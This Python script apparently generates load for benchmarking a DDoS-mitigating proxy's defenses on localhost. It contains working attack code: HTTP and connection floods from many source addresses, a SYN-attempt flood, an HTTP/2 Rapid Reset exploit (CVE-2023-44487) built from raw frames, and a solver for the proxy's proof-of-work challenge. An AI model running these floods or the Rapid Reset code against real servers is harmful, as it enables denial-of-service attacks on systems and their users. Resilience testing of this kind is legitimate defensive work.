#!/usr/bin/env python3
"""Load for bench/flood (Python 3 standard library only).

Subcommands (each prints one JSON object on stdout):
  legit PORT HOST CLIENTS RATE SECONDS     CLIENTS keep-alive clients on 127.1.0.x, RATE
                                           requests/s in total, steady; statuses + latencies.
                                           A client that meets Rempart's challenge page solves
                                           it like a browser (SHA-256 proof of work, then the
                                           clearance cookie on every later request): once
                                           before its measured requests (a warm-up request,
                                           not measured), and again inside a measured request
                                           if challenged later (its latency includes the solve)
  http-flood PORT HOST ADDRS PER_ADDR CONC SECONDS
                                           ADDRS source addresses on 127.2.x.y, PER_ADDR
                                           back-to-back keep-alive requests each, CONC at once
  conn-flood PORT HOST CONC SECONDS        one address (127.4.0.1) opening connections as fast
                                           as it can: connect, one request, close
  rapid-reset PORT HOST CONNS SECONDS      HTTP/2 over TLS: bursts of HEADERS + RST_STREAM
                                           pairs (CVE-2023-44487), reconnecting when closed
  syn-attempts PORT SRC SECONDS            connection attempts from SRC as fast as one process
                                           can: non-blocking connect, close; with its own CPU
                                           and the machine's busy time (/proc/stat)
  idle-busy SECONDS                        the machine's busy time with no attack
  merge-scenario ...                       (used by the script) combine parts into one row
"""

import asyncio
import gc
import hashlib
import json
import os
import re
import random
import socket
import ssl
import statistics
import sys
import time


def pct(vals, p):
    if not vals:
        return None
    vals = sorted(vals)
    k = min(len(vals) - 1, max(0, int(round(p / 100.0 * len(vals) + 0.5)) - 1))
    return vals[k]


async def open_from(src, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((src, 0))
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    return await asyncio.open_connection(sock=sock)


async def read_response(reader, full=False):
    """Reads one HTTP/1.1 response (Content-Length or chunked); returns (status, keep_alive),
    or with full=True (status, keep_alive, headers, body)."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    headers = {}
    for l in lines[1:]:
        if ":" in l:
            k, v = l.split(":", 1)
            headers[k.strip().lower()] = v.strip()
    body = b""
    if "content-length" in headers:
        body = await reader.readexactly(int(headers["content-length"]))
    elif headers.get("transfer-encoding", "").lower() == "chunked":
        while True:
            size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
            body += (await reader.readexactly(size + 2))[:size]
            if size == 0:
                break
    ka = headers.get("connection", "").lower() != "close"
    if full:
        return status, ka, headers, body
    return status, ka


SUBMIT = "/.rempart/challenge"


def challenge_of(status, body):
    """(token, difficulty) when the answer is Rempart's challenge page, else None."""
    if status not in (429, 503) or b'id="rempart-challenge"' not in body:
        return None
    token = re.search(rb'name="token" value="([^"]+)"', body)
    bits = re.search(rb'data-difficulty="(\d+)"', body)
    if not token or not bits:
        return None
    return token.group(1).decode().replace("&amp;", "&"), int(bits.group(1))


def solve(token, bits):
    """The proof of work, as the page's script does it: SHA-256(token:n), leading zero bits."""
    n = 0
    prefix = token.encode() + b":"
    while True:
        d = int.from_bytes(hashlib.sha256(prefix + str(n).encode()).digest()[:8], "big")
        if d >> (64 - bits) == 0:
            return str(n)
        n += 1


# ------------------------------------------------------------------------------------ legit

async def legit(port, host, clients, rate, seconds):
    lat, statuses, errors, solved = [], {}, 0, 0
    cookie = {}   # per client: its clearance cookie, once it has one
    interval = clients / rate          # each client's period
    t_end = time.monotonic() + seconds
    # LEGIT_TRACE=<file>: every measured request as a JSON line (source, wall-clock start,
    # latency, status), to line the client's view up with the edge's access log.
    trace = [] if os.environ.get("LEGIT_TRACE") else None

    def request(i):
        c = f"Cookie: {cookie[i]}\r\n" if i in cookie else ""
        return f"GET /legit HTTP/1.1\r\nHost: {host}\r\n{c}\r\n".encode()

    async def fetch(i, conn):
        """One page, solving a challenge on the way if one comes: (status, keep_alive)."""
        nonlocal solved
        r, w = conn
        w.write(request(i))
        st, ka, _, body = await read_response(r, full=True)
        ch = challenge_of(st, body) if ka else None
        if ch is None:
            return st, ka
        token, bits = ch
        form = f"token={token}&solution={solve(token, bits)}&return=%2Flegit".encode()
        w.write(f"POST {SUBMIT} HTTP/1.1\r\nHost: {host}\r\n"
                f"Content-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(form)}\r\n\r\n".encode() + form)
        st, ka, headers, _ = await read_response(r, full=True)
        if st == 303 and "set-cookie" in headers and ka:
            cookie[i] = headers["set-cookie"].split(";")[0]
            solved += 1
            w.write(request(i))
            st, ka = await read_response(r)
        return st, ka

    async def client(i):
        nonlocal errors
        src = f"127.1.{i // 250}.{i % 250 + 1}"
        conn = None
        # Warm-up, not measured: the first visit, where a browser meets the challenge if the
        # zone is challenging.
        try:
            conn = await asyncio.wait_for(open_from(src, port), 10)
            _, ka = await asyncio.wait_for(fetch(i, conn), 10)
            if not ka:
                conn[1].close()
                conn = None
        except Exception:
            if conn:
                conn[1].close()
            conn = None
        nxt = time.monotonic() + random.random() * interval
        while True:
            now = time.monotonic()
            if nxt > t_end:
                break
            if nxt > now:
                await asyncio.sleep(nxt - now)
            nxt += interval
            t0 = time.monotonic()
            try:
                # asyncio.timeout, not wait_for: wait_for (3.11) wraps the request in a new
                # task that starts only on a later turn of the loop, after whatever else is
                # ready, which the clock would count as the proxy's latency.
                async with asyncio.timeout(10):
                    if conn is None:
                        conn = await open_from(src, port)
                    st, ka = await fetch(i, conn)
                lat.append((time.monotonic() - t0) * 1000)
                if trace is not None:
                    trace.append((src, time.time() - (time.monotonic() - t0), lat[-1], st))
                statuses[st] = statuses.get(st, 0) + 1
                if not ka:
                    conn[1].close()
                    conn = None
            except Exception:
                errors += 1
                if conn:
                    conn[1].close()
                conn = None
        if conn:
            conn[1].close()

    # No cycle collection while measuring: a full collection stops this one process (all 50
    # clients) for milliseconds, which would show up as the proxy's tail latency. A run of
    # this length leaves little garbage; it is collected at the end.
    gc.collect()
    gc.disable()
    try:
        await asyncio.gather(*(client(i) for i in range(clients)))
    finally:
        gc.enable()
    if trace is not None:
        with open(os.environ["LEGIT_TRACE"], "a") as f:
            for src, start, ms, st in trace:
                f.write(json.dumps({"src": src, "start": start, "ms": ms, "status": st}) + "\n")
    total = sum(statuses.values()) + errors
    return {"requests": total, "ok": statuses.get(200, 0), "errors": errors,
            "challenges_solved": solved,
            "statuses": {str(k): v for k, v in sorted(statuses.items())},
            "success": statuses.get(200, 0) / total if total else None,
            "p50_ms": pct(lat, 50), "p99_ms": pct(lat, 99), "max_ms": max(lat) if lat else None}


# ------------------------------------------------------------------------------- http flood

async def http_flood(port, host, addrs, per_addr, conc, seconds, rate=0.0):
    """`rate` > 0: requests leave on a fixed schedule, `rate` per second in all (the
    flood the brief describes, at a multiple of the origin's capacity); 0: as fast as the
    `conc` workers can."""
    req = f"GET /flood HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    statuses, errors, used = {}, 0, 0
    t_end = time.monotonic() + seconds
    next_addr = 0
    sent = 0
    lock = asyncio.Lock()
    t_start = time.monotonic()

    async def pace():
        nonlocal sent
        if rate <= 0:
            return
        k = sent
        sent += 1
        delay = t_start + k / rate - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)

    async def worker():
        nonlocal errors, used, next_addr
        while time.monotonic() < t_end:
            async with lock:
                i = next_addr % addrs
                next_addr += 1
            src = f"127.2.{i // 250}.{i % 250 + 1}"
            used += 1
            try:
                r, w = await asyncio.wait_for(open_from(src, port), 5)
            except Exception:
                errors += 1
                continue
            try:
                for _ in range(per_addr):
                    await pace()
                    w.write(req)
                    st, ka = await asyncio.wait_for(read_response(r), 5)
                    statuses[st] = statuses.get(st, 0) + 1
                    if not ka or time.monotonic() >= t_end:
                        break
            except Exception:
                errors += 1
            w.close()

    t0 = time.monotonic()
    await asyncio.gather(*(worker() for _ in range(conc)))
    el = time.monotonic() - t0
    n = sum(statuses.values())
    return {"attack_requests": n, "attack_rps": n / el, "attack_errors": errors,
            "attack_statuses": {str(k): v for k, v in sorted(statuses.items())},
            "addresses_used": min(used, addrs), "address_visits": used}


# ------------------------------------------------------------------------------- conn flood

async def conn_flood(port, host, conc, seconds):
    req = f"GET /conn HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    statuses, refused, errors, opened = {}, 0, 0, 0
    t_end = time.monotonic() + seconds

    async def worker():
        nonlocal refused, errors, opened
        while time.monotonic() < t_end:
            try:
                r, w = await asyncio.wait_for(open_from("127.4.0.1", port), 5)
                opened += 1
            except Exception:
                errors += 1
                continue
            try:
                w.write(req)
                st, _ = await asyncio.wait_for(read_response(r), 5)
                statuses[st] = statuses.get(st, 0) + 1
            except (asyncio.IncompleteReadError, ConnectionError):
                refused += 1          # closed without an answer: refused at accept
            except Exception:
                errors += 1
            w.close()

    t0 = time.monotonic()
    await asyncio.gather(*(worker() for _ in range(conc)))
    el = time.monotonic() - t0
    return {"attack_connections": opened, "attack_cps": opened / el,
            "attack_closed_unanswered": refused, "attack_errors": errors,
            "attack_statuses": {str(k): v for k, v in sorted(statuses.items())}}


# ------------------------------------------------------------------------------ rapid reset

def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload


async def rapid_reset(port, host, conns, seconds):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    block = bytes([0x82, 0x87, 0x84, 0x01, len(host)]) + host.encode()
    t_end = time.monotonic() + seconds
    sent, goaways, connections, errors = 0, {}, 0, 0

    async def worker():
        nonlocal sent, connections, errors
        while time.monotonic() < t_end:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(
                    "127.0.0.1", port, ssl=ctx, server_hostname=host), 5)
                connections += 1
            except Exception:
                errors += 1
                await asyncio.sleep(0.01)
                continue
            w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))

            async def drain():
                buf = b""
                while True:
                    try:
                        d = await r.read(65536)
                    except Exception:
                        return
                    if not d:
                        return
                    buf += d
                    while len(buf) >= 9:
                        n = int.from_bytes(buf[:3], "big")
                        if len(buf) < 9 + n:
                            break
                        if buf[3] == 7 and n >= 8:
                            code = int.from_bytes(buf[13:17], "big")
                            goaways[code] = goaways.get(code, 0) + 1
                        buf = buf[9 + n:]
            reader = asyncio.ensure_future(drain())
            sid = 1
            try:
                while (time.monotonic() < t_end and not reader.done() and not w.is_closing()
                       and sid < 2**31 - 2000):
                    burst = bytearray()
                    for _ in range(100):
                        burst += frame(1, 0x5, sid, block) + frame(3, 0, sid, (8).to_bytes(4, "big"))
                        sid += 2
                    w.write(bytes(burst))
                    await w.drain()
                    sent += 100
                    await asyncio.sleep(0)   # let the reader see a GOAWAY
            except Exception:
                pass
            try:
                await asyncio.wait_for(reader, 2)   # the GOAWAY, if any, then the close
            except Exception:
                pass
            w.close()

    await asyncio.gather(*(worker() for _ in range(conns)))
    return {"attack_streams": sent, "attack_connections": connections, "attack_errors": errors,
            "goaway_codes": {str(k): v for k, v in goaways.items()}}


# ------------------------------------------------------------------------------ SYN attempts

def machine_busy_s():
    """The whole machine's non-idle CPU time so far (/proc/stat: user, nice, system, irq,
    softirq, steal), in seconds: SYN handling runs in softirq, charged to whoever is on the CPU."""
    with open("/proc/stat") as f:
        v = [int(x) for x in f.readline().split()[1:]]
    return (v[0] + v[1] + v[2] + v[5] + v[6] + v[7]) / os.sysconf("SC_CLK_TCK")


def syn_attempts(port, src, seconds):
    """Connection attempts from `src` as fast as one process makes them: a non-blocking
    connect (the SYN) and an immediate close, whether or not it was answered. Reports the
    attempts and this process's own CPU, and the machine's busy time over the same span."""
    import resource
    IP_BIND_ADDRESS_NO_PORT = 24   # the port is picked at connect, per destination
    n = errors = 0
    m0, r0, t0 = machine_busy_s(), resource.getrusage(resource.RUSAGE_SELF), time.monotonic()
    t_end = t0 + seconds
    while time.monotonic() < t_end:
        for _ in range(100):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            s.setblocking(False)
            s.bind((src, 0))
            try:
                s.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            except OSError:
                errors += 1
            s.close()
            n += 1
    el = time.monotonic() - t0
    r1, m1 = resource.getrusage(resource.RUSAGE_SELF), machine_busy_s()
    own = (r1.ru_utime + r1.ru_stime) - (r0.ru_utime + r0.ru_stime)
    return {"attempts": n, "attempt_errors": errors, "seconds": el,
            "attacker_cpu_s": own, "machine_busy_s": m1 - m0}


def idle_busy(seconds):
    """The machine's busy time over `seconds` with no attack: the background to subtract."""
    m0 = machine_busy_s()
    time.sleep(seconds)
    return {"machine_busy_s": machine_busy_s() - m0, "seconds": seconds}


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if cmd == "legit":
        out = asyncio.run(legit(int(args[0]), args[1], int(args[2]), float(args[3]), float(args[4])))
    elif cmd == "http-flood":
        out = asyncio.run(http_flood(int(args[0]), args[1], int(args[2]), int(args[3]),
                                     int(args[4]), float(args[5]),
                                     float(args[6]) if len(args) > 6 else 0.0))
    elif cmd == "conn-flood":
        out = asyncio.run(conn_flood(int(args[0]), args[1], int(args[2]), float(args[3])))
    elif cmd == "rapid-reset":
        out = asyncio.run(rapid_reset(int(args[0]), args[1], int(args[2]), float(args[3])))
    elif cmd == "syn-attempts":
        out = syn_attempts(int(args[0]), args[1], float(args[2]))
    elif cmd == "idle-busy":
        out = idle_busy(float(args[0]))
    else:
        sys.exit(__doc__)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
